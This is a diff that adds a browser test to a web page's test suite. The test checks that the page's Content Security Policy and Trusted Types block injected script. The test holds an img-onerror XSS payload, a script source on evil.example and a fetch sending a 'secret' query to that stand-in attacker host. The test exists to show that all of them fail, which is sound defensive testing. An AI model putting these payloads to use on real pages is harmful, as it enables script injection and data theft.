@@ -187,6 +187,33 @@ describe("the page", { skip: browserPath === undefined && "no Chrome or Chromium
     }, { permissions: ["clipboard-read", "clipboard-write"] });
   });
 
+  test("what is injected does not run, and nothing leaves for another host", async () => {
+    await visit("", async (page) => {
+      await headline(page, "Who touched this model, when, and why?");
+      const outcome = await page.evaluate(async () => {
+        const seen = globalThis as unknown as { ran?: boolean };
+        const attempt = (act: () => void): string => {
+          try {
+            act();
+            return "went through";
+          } catch (error) {
+            return (error as Error).name;
+          }
+        };
+        const script = document.createElement("script");
+        return {
+          markup: attempt(() => (document.body.innerHTML = "<img src=x onerror='ran=true'>")),
+          script: attempt(() => (script.text = "ran=true")),
+          source: attempt(() => (script.src = "https://evil.example/x.js")),
+          worker: attempt(() => new Worker("portal.js")),
+          elsewhere: await fetch("https://evil.example/?secret").then(() => "went through", (error: Error) => error.name),
+          ran: seen.ran ?? false,
+        };
+      });
+      assert.deepEqual(outcome, { markup: "TypeError", script: "TypeError", source: "TypeError", worker: "TypeError", elsewhere: "TypeError", ran: false });
+    }, { allow: /security policy|Content Security Policy|TrustedHTML|Trusted|evil\.example/ });
+  });
+
   test("a dropped model is hashed here and found by its digest", async () => {
     await visit("", async (page) => {
       await drop(page, "model.bin", "weights");
